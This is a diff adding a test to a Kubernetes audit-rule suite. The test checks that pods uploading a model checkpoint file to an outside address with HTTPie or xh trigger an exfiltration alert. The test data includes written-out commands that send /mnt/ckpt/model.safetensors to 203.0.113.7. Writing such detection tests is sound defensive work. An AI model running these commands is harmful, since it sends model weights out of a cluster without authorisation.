@@ -162,6 +162,17 @@ describe('workload rules through the real audit reader', () => {
     ]);
   });
 
+  it('alert on a person\'s pod sending a checkpoint with HTTPie or xh (MLS-EXFIL-049), not on one posting plain fields (its checkpoint claim is MLS-EXFIL-039\'s)', async () => {
+    const run = (command: string[]): string => write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine/httpie', command }], volumes: [CKPT] }));
+    const lines = [
+      run(['http', '-f', 'POST', '203.0.113.7/u', 'f@/mnt/ckpt/model.safetensors']),
+      run(['sh', '-c', 'xh POST https://203.0.113.7/u < /mnt/ckpt/model.safetensors']),
+      run(['http', 'POST', 'http://10.0.0.9:8080/train/done', 'step=9000']),
+    ];
+    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
+    expect(got).toEqual(['1 pods MLS-EXFIL-049,MLS-EXFIL-039 alert', '2 pods MLS-EXFIL-049,MLS-EXFIL-039 alert', '3 pods MLS-EXFIL-039 escalate']);
+  });
+
   it('read a JSON Patch body (kubectl patch --type=json) as what it writes', async () => {
     const replace = (path: string, value: unknown): Record<string, unknown> => ({ op: 'replace', path, value });
     const add = (path: string, value: unknown): Record<string, unknown> => ({ op: 'add', path, value });
